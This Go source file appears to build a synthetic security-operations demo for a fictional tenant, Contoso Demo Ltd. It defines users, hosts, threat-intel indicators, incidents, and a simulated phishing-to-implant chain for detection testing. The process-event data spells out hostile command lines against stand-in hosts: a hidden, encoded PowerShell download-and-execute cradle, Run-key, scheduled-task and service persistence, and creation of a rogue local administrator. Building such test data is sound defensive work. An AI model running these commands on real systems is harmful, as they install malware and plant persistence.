package demo

import (
	"encoding/base64"
	"slices"
	"time"
)

// The story of the demo, in one place.
//
// Contoso Demo Ltd (contoso-demo.example, offices in Seattle and London) is
// attacked over the two days before "now" (incident numbers in brackets):
//
//  1. Ten days earlier an anonymising VPS (203.0.113.66) tries jordan.reyes's
//     password once: a low alert, closed as undetermined [105].
//  2. 45 h ago the same address sprays passwords at eight accounts [117].
//  3. One attempt succeeds: jordan.reyes, a cloud operations engineer; later
//     sign-ins come over IPv6 from 2001:db8:bad:1::66 [118].
//  4. From that session the attacker adds an inbox rule that forwards invoice
//     mail to jr.archive@example.net [119].
//  5. From jordan's mailbox the attacker sends the finance team a phishing
//     mail with a link (https://secure-docs.example.com/share/Invoice-8841)
//     and a macro document (Invoice-8841.docm); judy.santos reports it and
//     Defender for Office purges the rest [122].
//  6. Before that, sam.taylor opens the document on WKS-FIN-07 (10.0.0.10):
//     Word starts an encoded PowerShell that downloads
//     http://files.example.org/dl/OneDriveUpdate.ps1, drops OneDriveUpdater.exe,
//     sets a Run key, a scheduled task and a service, and creates a local
//     administrator, svc-backup [121].
//  7. The implant beacons every five minutes to svc-telemetry.example.net
//     (198.51.100.23) until now: DNS, endpoint and firewall logs all show it [123].
//  8. 8 h ago the attacker uses jordan's Azure rights: an Owner role
//     assignment on rg-finance-prod for a new app, "Invoice Viewer Pro", that
//     jordan consented to, and the app added to a privileged group [126].
//
// Around it: an EICAR test [101], SSH brute force against the public web
// server [102, 115, 129], impossible travel that is the corporate VPN [107],
// an authorised penetration test against SRV-APP-01, 10.0.0.1 [109], helpdesk
// and admin activity [103, 104, 112, 113, 130], an IoT firmware update [106],
// and one false positive: the uptime monitor 192.0.2.10, flagged by a stale
// indicator list and closed as FalsePositive [110].

// The tenant.
const (
	tenantDomain = "contoso-demo.example"
	tenantName   = "Contoso Demo Ltd"
	ntDomain     = "CONTOSO"
	// domainSID is the SID of the CONTOSO Active Directory domain.
	domainSID = "S-1-5-21-3623811015-3361044348-30300820"
)

// The attacker's indicators: every one of them is in the threat-intel feed.
const (
	attackerIP       = "203.0.113.66"
	attackerIPv6     = "2001:db8:bad:1::66"
	c2Domain         = "svc-telemetry.example.net"
	c2IP             = "198.51.100.23"
	beaconURL        = "https://svc-telemetry.example.net/api/v2/checkin"
	phishDomain      = "secure-docs.example.com"
	phishURL         = "https://secure-docs.example.com/share/Invoice-8841"
	phishHostIP      = "203.0.113.80"
	payloadDomain    = "files.example.org"
	payloadURL       = "http://files.example.org/dl/OneDriveUpdate.ps1"
	forwardTo        = "jr.archive@example.net"
	attachmentName   = "Invoice-8841.docm"
	attachmentSHA256 = "4c6e1df8249a4dc17fb018694559e97b49ab4bdc9aec05bc6affe4022e124156"
	attachmentMD5    = "f8080382a4adb059517bacb476d7fca4"
	payloadName      = "OneDriveUpdater.exe"
	payloadDir       = `C:\Users\sam.taylor\AppData\Local\Temp`
	payloadSHA256    = "818ede854daf58901f6186657a97db8834c03424d79197289ca87d49d16f7428"
	payloadSHA1      = "e346ccfc5cbbb7be6272df691b0eb9124ecd07be"
	payloadMD5       = "1678dc29219270a9b4a9dbd88a688cc8"
	ps1SHA256        = "1eabd0a6dac293ed4e67de535a4dce4913570603ffb2acd7c278962b95459506"
	malwareName      = "Trojan:Win32/FakeUpdate.DEMO"
	maliciousApp     = "Invoice Viewer Pro"
	phishSubject     = "Updated invoice 8841 - payment due today"
	runKeyName       = "OneDriveUpdate"
	taskName         = `\Microsoft\Windows\OneDrive\Sync Maintenance`
	serviceName      = "OneDriveSyncSvc"
	rogueAdmin       = "svc-backup"
)

// Benign things that look suspicious: none of them is in the threat-intel feed.
const (
	monitorIP       = "192.0.2.10" // StatusPing uptime monitoring: the false positive
	monitorDomain   = "statusping.example.com"
	pentestIP       = "192.0.2.50"     // the authorised penetration tester
	vpnEgressIP     = "198.51.100.200" // the corporate VPN's egress (impossible travel)
	officeSeattleIP = "198.51.100.10"
	officeLondonIP  = "198.51.100.11"
	webPublicIP     = "198.51.100.30" // web-lnx-01's public address
	travelIP        = "192.0.2.99"    // a hotel in Toronto
	eicarSHA256     = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
	puaSHA256       = "e5d4ade7cf737940357cdd4b32f79a10f4e18ebf19566b0245d38383c3c8afbc"
)

// Two private addresses with a shared prefix, in different incidents, so that
// exact matching can be tested: 10.0.0.1 must not match 10.0.0.10.
const (
	appServerIP = "10.0.0.1"  // SRV-APP-01, the pen-test target
	victimIP    = "10.0.0.10" // WKS-FIN-07, the compromised workstation
	dcIP        = "10.0.0.4"
)

// The timeline: how long before now each step happened.
const (
	hour = time.Hour
	day  = 24 * time.Hour

	tRecon      = 10*day + 2*hour
	tSpray      = 45 * hour
	tSpraySpan  = 50 * time.Minute
	tBreach     = 44*hour + 5*time.Minute
	tInboxRule  = 43*hour + 20*time.Minute
	tIPv6Signin = 31 * hour
	tPhishSend  = 30*hour + 40*time.Minute
	tPhishOpen  = 29*hour + 10*time.Minute
	tExec       = 29*hour + 8*time.Minute
	tRunKey     = 29*hour + 6*time.Minute
	tTask       = 29*hour + 5*time.Minute
	tService    = 29*hour + 4*time.Minute
	tLocalAdmin = 29*hour + 3*time.Minute
	tBeacon     = 29 * hour
	tReport     = 28*hour + 30*time.Minute
	tZap        = 28 * hour
	tAzure      = 8*hour + 30*time.Minute
	tRole       = 8*hour + 20*time.Minute
	tConsent    = 8*hour + 10*time.Minute
	tGroupAdd   = 8*hour + 5*time.Minute
	beaconEvery = 5 * time.Minute
)

// site is an office.
type site int

const (
	siteSeattle site = iota
	siteLondon
)

// user is an employee of the demo tenant.
type user struct {
	sam     string // the account name; the UPN is sam@tenantDomain
	display string
	dept    string
	title   string
	site    site
	rid     int    // relative id of the AD account
	home    string // the public address they work from at home
	mobile  string // a second (IPv6) address, if any
}

func (u user) upn() string { return u.sam + "@" + tenantDomain }
func (u user) sid() string { return domainSID + "-" + itoa(u.rid) }

// users is the staff. The first entries are the story's protagonists.
var users = []user{
	{"jordan.reyes", "Jordan Reyes", "IT", "Cloud Operations Engineer", siteSeattle, 1104, "192.0.2.101", ""},
	{"sam.taylor", "Sam Taylor", "Finance", "Accounts Payable Specialist", siteSeattle, 1121, "192.0.2.102", ""},
	{"judy.santos", "Judy Santos", "Finance", "Finance Manager", siteSeattle, 1122, "192.0.2.103", ""},
	{"laura.chen", "Laura Chen", "Finance", "Financial Analyst", siteSeattle, 1123, "192.0.2.104", ""},
	{"alice.martin", "Alice Martin", "Sales", "Sales Director EMEA", siteLondon, 1131, "192.0.2.105", ""},
	{"bob.nguyen", "Bob Nguyen", "Sales", "Account Executive", siteSeattle, 1132, "192.0.2.106", "2001:db8:100:6::25"},
	{"carol.jones", "Carol Jones", "HR", "HR Business Partner", siteLondon, 1141, "192.0.2.107", ""},
	{"dave.okafor", "Dave Okafor", "Engineering", "Software Engineer", siteSeattle, 1151, "192.0.2.108", "2001:db8:100:8::25"},
	{"erin.schmidt", "Erin Schmidt", "Engineering", "Engineering Manager", siteLondon, 1152, "192.0.2.109", ""},
	{"frank.li", "Frank Li", "Engineering", "Site Reliability Engineer", siteSeattle, 1153, "192.0.2.110", ""},
	{"grace.patel", "Grace Patel", "IT", "Azure Administrator", siteSeattle, 1105, "192.0.2.111", ""},
	{"heidi.kowalski", "Heidi Kowalski", "Marketing", "Marketing Lead", siteLondon, 1161, "192.0.2.112", "2001:db8:100:1::25"},
	{"ivan.petrov", "Ivan Petrov", "Engineering", "Data Engineer", siteLondon, 1154, "192.0.2.113", ""},
	{"kevin.obrien", "Kevin O'Brien", "Legal", "Counsel", siteSeattle, 1171, "192.0.2.114", ""},
	{"mike.adams", "Mike Adams", "IT", "Helpdesk Technician", siteSeattle, 1106, "192.0.2.115", ""},
	{"nina.rossi", "Nina Rossi", "Sales", "Sales Operations", siteLondon, 1133, "192.0.2.116", ""},
	{"oscar.diaz", "Oscar Diaz", "Operations", "Facilities Manager", siteSeattle, 1181, "192.0.2.117", ""},
	{"paula.wright", "Paula Wright", "Executive", "Chief Financial Officer", siteSeattle, 1101, "192.0.2.118", "2001:db8:100:12::25"},
	{"quinn.baker", "Quinn Baker", "Marketing", "Content Designer", siteLondon, 1162, "192.0.2.119", ""},
	{"rachel.kim", "Rachel Kim", "Engineering", "QA Engineer", siteSeattle, 1155, "192.0.2.120", ""},
	{"priya.shah", "Priya Shah", "Security", "SOC Analyst", siteLondon, 1191, "192.0.2.121", ""},
	{"tom.becker", "Tom Becker", "Security", "SOC Lead", siteSeattle, 1192, "192.0.2.122", ""},
}

// userByName finds a user; it panics on a name not in the table (a bug in the story).
func userByName(sam string) user {
	for _, u := range users {
		if u.sam == sam {
			return u
		}
	}
	panic("demo: unknown user " + sam)
}

// The protagonists.
var (
	jordan = userByName("jordan.reyes") // the compromised cloud account
	sam    = userByName("sam.taylor")   // opens the attachment on WKS-FIN-07
	judy   = userByName("judy.santos")  // reports the phish
	laura  = userByName("laura.chen")   // another phishing recipient
	alice  = userByName("alice.martin") // impossible travel through the VPN
	grace  = userByName("grace.patel")  // the Azure administrator
	heidi  = userByName("heidi.kowalski")
	mike   = userByName("mike.adams")
	bob    = userByName("bob.nguyen")
)

// sprayTargets are the accounts the password spray tries; jordan falls.
var sprayTargets = []string{
	"alice.martin", "bob.nguyen", "carol.jones", "dave.okafor",
	"laura.chen", "kevin.obrien", "nina.rossi", "jordan.reyes",
}

// sprayGhosts are names the spray tries that do not exist (AADSTS50034).
var sprayGhosts = []string{"admin", "test", "scanner"}

// phishRecipients receive the internal phishing mail.
var phishRecipients = []string{"sam.taylor", "judy.santos", "laura.chen"}

// analyst is a SOC member who can own incidents.
type analyst struct{ user user }

var (
	priya = &analyst{userByName("priya.shah")}
	tom   = &analyst{userByName("tom.becker")}
)

// osInfo is an operating system as the agents report it.
type osInfo struct {
	family   string // "Windows", "Linux"
	name     string // Heartbeat OSName
	major    string
	minor    string
	version  string // OS version string
	build    string
	platform string // MDE OSPlatform
	distro   string // MDE OSDistribution
}

var (
	osWin11  = osInfo{"Windows", "Windows 11 Enterprise", "10", "0", "10.0.22631", "22631", "Windows11", "Windows11"}
	osWin10  = osInfo{"Windows", "Windows 10 Enterprise", "10", "0", "10.0.19045", "19045", "Windows10", "Windows10"}
	osWS2022 = osInfo{"Windows", "Windows Server 2022 Datacenter", "10", "0", "10.0.20348", "20348", "WindowsServer2022", "WindowsServer2022"}
	osWS2019 = osInfo{"Windows", "Windows Server 2019 Datacenter", "10", "0", "10.0.17763", "17763", "WindowsServer2019", "WindowsServer2019"}
	osUbuntu = osInfo{"Linux", "Ubuntu", "22", "04", "22.04", "", "Linux", "Ubuntu"}
)

// host is a machine of the demo tenant.
type host struct {
	name   string // NetBIOS name
	ip     string // private address
	os     osInfo
	role   string // "Workstation", "Server", "DomainController"
	owner  string // the workstation's user
	cloud  bool   // an Azure VM
	public string // public address of a cloud VM
	mde    bool   // onboarded to Defender for Endpoint
}

func (h host) fqdn() string {
	if h.os.family == "Linux" {
		return h.name
	}
	return lower(h.name) + "." + tenantDomain
}

func (h host) isWindows() bool { return h.os.family == "Windows" }

// computer is the host's name as agents write it into Computer columns: the
// FQDN for domain-joined Windows machines, the short name for Linux.
func (h host) computer() string {
	if h.isWindows() {
		return h.name + "." + tenantDomain
	}
	return h.name
}

// hosts is the fleet that reports to the workspace.
var hosts = []host{
	{"DC01", dcIP, osWS2022, "DomainController", "", false, "", true},
	{"SRV-APP-01", appServerIP, osWS2019, "Server", "", false, "", true},
	{"SRV-SQL-01", "10.0.0.5", osWS2019, "Server", "", false, "", true},
	{"SRV-FILE-01", "10.0.0.6", osWS2022, "Server", "", false, "", true},
	{"WKS-FIN-07", victimIP, osWin11, "Workstation", "sam.taylor", false, "", true},
	{"WKS-FIN-03", "10.0.0.13", osWin11, "Workstation", "judy.santos", false, "", true},
	{"WKS-FIN-05", "10.0.0.15", osWin11, "Workstation", "laura.chen", false, "", true},
	{"WKS-FIN-09", "10.0.0.19", osWin10, "Workstation", "paula.wright", false, "", true},
	{"WKS-IT-02", "10.0.2.21", osWin11, "Workstation", "mike.adams", false, "", true},
	{"WKS-IT-05", "10.0.2.25", osWin11, "Workstation", "jordan.reyes", false, "", true},
	{"WKS-IT-08", "10.0.2.28", osWin11, "Workstation", "grace.patel", false, "", true},
	{"WKS-SAL-01", "10.0.3.11", osWin11, "Workstation", "alice.martin", false, "", true},
	{"WKS-SAL-04", "10.0.3.14", osWin10, "Workstation", "bob.nguyen", false, "", true},
	{"WKS-SAL-06", "10.0.3.16", osWin11, "Workstation", "nina.rossi", false, "", true},
	{"WKS-HR-01", "10.0.3.21", osWin11, "Workstation", "carol.jones", false, "", true},
	{"WKS-ENG-11", "10.0.4.11", osWin11, "Workstation", "dave.okafor", false, "", true},
	{"WKS-ENG-12", "10.0.4.12", osWin11, "Workstation", "erin.schmidt", false, "", true},
	{"WKS-ENG-14", "10.0.4.14", osWin11, "Workstation", "frank.li", false, "", true},
	{"WKS-ENG-15", "10.0.4.15", osWin10, "Workstation", "ivan.petrov", false, "", true},
	{"WKS-ENG-17", "10.0.4.17", osWin11, "Workstation", "rachel.kim", false, "", true},
	{"WKS-MKT-02", "10.0.3.32", osWin11, "Workstation", "heidi.kowalski", false, "", true},
	{"WKS-MKT-03", "10.0.3.33", osWin11, "Workstation", "quinn.baker", false, "", true},
	{"WKS-LGL-01", "10.0.3.41", osWin10, "Workstation", "kevin.obrien", false, "", true},
	{"WKS-OPS-01", "10.0.3.51", osWin10, "Workstation", "oscar.diaz", false, "", true},
	{"WKS-SOC-01", "10.0.2.41", osWin11, "Workstation", "priya.shah", false, "", true},
	{"WKS-SOC-02", "10.0.2.42", osWin11, "Workstation", "tom.becker", false, "", true},
	{"web-lnx-01", "10.0.1.20", osUbuntu, "Server", "", true, webPublicIP, false},
	{"lnx-jump-01", "10.0.1.21", osUbuntu, "Server", "", true, "", false},
	{"lnx-proxy-01", "10.0.1.22", osUbuntu, "Server", "", true, "", false},
}

func hostByName(name string) host {
	for _, h := range hosts {
		if h.name == name {
			return h
		}
	}
	panic("demo: unknown host " + name)
}

// workstationOf returns the user's workstation.
func workstationOf(sam string) host {
	for _, h := range hosts {
		if h.owner == sam {
			return h
		}
	}
	panic("demo: no workstation for " + sam)
}

var (
	victimHost = hostByName("WKS-FIN-07")
	appServer  = hostByName("SRV-APP-01")
	dc01       = hostByName("DC01")
	sqlServer  = hostByName("SRV-SQL-01")
	fileServer = hostByName("SRV-FILE-01")
	webServer  = hostByName("web-lnx-01")
	itWks      = hostByName("WKS-IT-02")
)

// Public addresses background traffic uses.
var (
	saasIPs    = seq("192.0.2.", 160, 24)
	scannerIPs = seq("203.0.113.", 101, 12)
)

// Azure resources of the story.
const (
	resourceGroupFinance = "rg-finance-prod"
	storageFinance       = "stfinanceprod01"
	keyVaultFinance      = "kv-finance-prod"
	privilegedGroup      = "Cloud-Finance-Admins"
	ownerRoleID          = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635" // the built-in Owner role
)

// Story describes what the demo contains, for tests and documentation. It does
// not depend on the seed: the seed changes identifiers and background noise,
// never the story.
type Story struct {
	Tenant             string `json:"tenant"`              // the fictional tenant's domain
	AttackerIP         string `json:"attacker_ip"`         // the spray and first sign-in
	AttackerIPv6       string `json:"attacker_ipv6"`       // the later sign-ins
	CompromisedAccount string `json:"compromised_account"` // UPN
	CompromisedHost    string `json:"compromised_host"`    // host name
	CompromisedHostIP  string `json:"compromised_host_ip"`
	C2Domain           string `json:"c2_domain"`
	C2IP               string `json:"c2_ip"`
	PhishingURL        string `json:"phishing_url"`
	PayloadURL         string `json:"payload_url"`
	ForwardingAddress  string `json:"forwarding_address"`
	MonitoringIP       string `json:"monitoring_ip"` // the false positive's indicator

	// MaliciousIndicators are all in ThreatIntelIndicators.
	MaliciousIndicators []string `json:"malicious_indicators"`
	// HighConfidenceIndicators are the malicious indicators with confidence >= 80.
	HighConfidenceIndicators []string `json:"high_confidence_indicators"`
	// BenignIndicators appear in alerts or logs but never in ThreatIntelIndicators.
	BenignIndicators []string `json:"benign_indicators"`

	AttackIncidents       []int `json:"attack_incidents"`
	FalsePositiveIncident int   `json:"false_positive_incident"`
	BenignIncidents       []int `json:"benign_incidents"` // benign positives and noise
	// TextOnlyIncidents have at least one alert with no entity JSON, whose
	// indicators are named only in its Description and ExtendedProperties.
	TextOnlyIncidents []int `json:"text_only_incidents"`
	// RecurringEntities are identity values that appear in several incidents.
	RecurringEntities []string `json:"recurring_entities"`
	// SharedPrefixIPs are two addresses, in different incidents, one a string
	// prefix of the other.
	SharedPrefixIPs [2]string `json:"shared_prefix_ips"`

	Incidents []StoryIncident `json:"incidents"`
}

// StoryIncident is one incident of the demo as the story sees it.
type StoryIncident struct {
	Number   int    `json:"number"`
	Title    string `json:"title"`
	Severity string `json:"severity"`
	Status   string `json:"status"`
	Role     string `json:"role"` // "attack", "false-positive", "benign", "noise"
	Summary  string `json:"summary"`
}

// DefaultStory returns the story of the demo.
func DefaultStory() Story {
	s := Story{
		Tenant:             tenantDomain,
		AttackerIP:         attackerIP,
		AttackerIPv6:       attackerIPv6,
		CompromisedAccount: jordan.upn(),
		CompromisedHost:    victimHost.name,
		CompromisedHostIP:  victimHost.ip,
		C2Domain:           c2Domain,
		C2IP:               c2IP,
		PhishingURL:        phishURL,
		PayloadURL:         payloadURL,
		ForwardingAddress:  forwardTo,
		MonitoringIP:       monitorIP,
		BenignIndicators: []string{
			monitorIP, monitorDomain, pentestIP, vpnEgressIP, officeSeattleIP, officeLondonIP,
			heidi.mobile, travelIP,
		},
		RecurringEntities: []string{attackerIP, attackerIPv6, jordan.upn(), victimHost.name, c2Domain, sam.upn()},
		SharedPrefixIPs:   [2]string{appServerIP, victimIP},
	}
	for _, f := range storyFeed {
		s.MaliciousIndicators = append(s.MaliciousIndicators, f.value)
		if f.confidence >= 80 {
			s.HighConfidenceIndicators = append(s.HighConfidenceIndicators, f.value)
		}
	}
	for _, inc := range incidentSpecs() {
		s.Incidents = append(s.Incidents, StoryIncident{
			Number: inc.number, Title: inc.title, Severity: inc.severity, Status: inc.status,
			Role: string(inc.role), Summary: inc.summary,
		})
		switch inc.role {
		case roleAttack:
			s.AttackIncidents = append(s.AttackIncidents, inc.number)
		case roleFalsePositive:
			s.FalsePositiveIncident = inc.number
		default:
			s.BenignIncidents = append(s.BenignIncidents, inc.number)
		}
		if slices.ContainsFunc(inc.alerts, func(a alertSpec) bool { return a.entities == nil }) {
			s.TextOnlyIncidents = append(s.TextOnlyIncidents, inc.number)
		}
	}
	return s
}

// The implant chain on WKS-FIN-07, as Windows (4688) and Defender for
// Endpoint (DeviceProcessEvents) record it and as the alerts name it.
type procStep struct {
	age      time.Duration
	pid      int64
	ppid     int64
	image    string // full path
	cmd      string
	parent   string // the parent's full path
	elevated bool
}

const (
	explorerPath = `C:\Windows\explorer.exe`
	outlookPath  = `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`
	wordPath     = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	psPath       = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	updaterPath  = payloadDir + `\` + payloadName
	servicePath  = `C:\ProgramData\OneDriveSync\OneDriveUpdater.exe`
	attachPath   = `C:\Users\sam.taylor\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8X2KQ1ZP\` + attachmentName
	runKeyHive   = "HKEY_CURRENT_USER"
	runKeyPath   = `SOFTWARE\Microsoft\Windows\CurrentVersion\Run`
	samLogonID   = "0x3a8f21"
	samSessionID = "0x3a8f21"
	outlookPID   = 7124
	implantPID   = 10612
)

// psScript is what the encoded PowerShell command runs.
const psScript = "IEX (New-Object Net.WebClient).DownloadString('" + payloadURL + "')"

// psEncoded is psScript as powershell -EncodedCommand wants it: base64 of UTF-16LE.
var psEncoded = encodePowerShell(psScript)

var implantChain = []procStep{
	{tPhishOpen, 9120, outlookPID, wordPath,
		`"` + wordPath + `" /n "` + attachPath + `" /o ""`, outlookPath, false},
	{tExec, 10244, 9120, psPath,
		`powershell.exe -NoP -NonI -W Hidden -Enc ` + psEncoded, wordPath, false},
	{tExec - 40*time.Second, implantPID, 10244, updaterPath,
		`"` + updaterPath + `" /silent`, psPath, true},
	{tRunKey, 10708, implantPID, `C:\Windows\System32\reg.exe`,
		`reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v ` + runKeyName + ` /t REG_SZ /d "` + updaterPath + ` /silent" /f`, updaterPath, true},
	{tTask, 10744, implantPID, `C:\Windows\System32\schtasks.exe`,
		`schtasks.exe /Create /TN "` + taskName + `" /TR "` + updaterPath + ` /silent" /SC HOURLY /RU SYSTEM /F`, updaterPath, true},
	{tService, 10780, implantPID, `C:\Windows\System32\sc.exe`,
		`sc.exe create ` + serviceName + ` binPath= "` + servicePath + ` --service" start= auto DisplayName= "OneDrive Sync Service"`, updaterPath, true},
	{tLocalAdmin + 30*time.Second, 10832, implantPID, `C:\Windows\System32\net.exe`,
		`net.exe user ` + rogueAdmin + ` Backup#2024! /add /comment:"Backup service account"`, updaterPath, true},
	{tLocalAdmin, 10868, implantPID, `C:\Windows\System32\net.exe`,
		`net.exe localgroup Administrators ` + rogueAdmin + ` /add`, updaterPath, true},
}

// stepByPID finds a step of the implant chain.
func stepByPID(pid int64) procStep {
	for _, s := range implantChain {
		if s.pid == pid {
			return s
		}
	}
	panic("demo: no implant step " + itoa(int(pid)))
}

func encodePowerShell(s string) string {
	u := make([]byte, 0, 2*len(s))
	for _, r := range s {
		u = append(u, byte(r), byte(r>>8))
	}
	return base64.StdEncoding.EncodeToString(u)
}
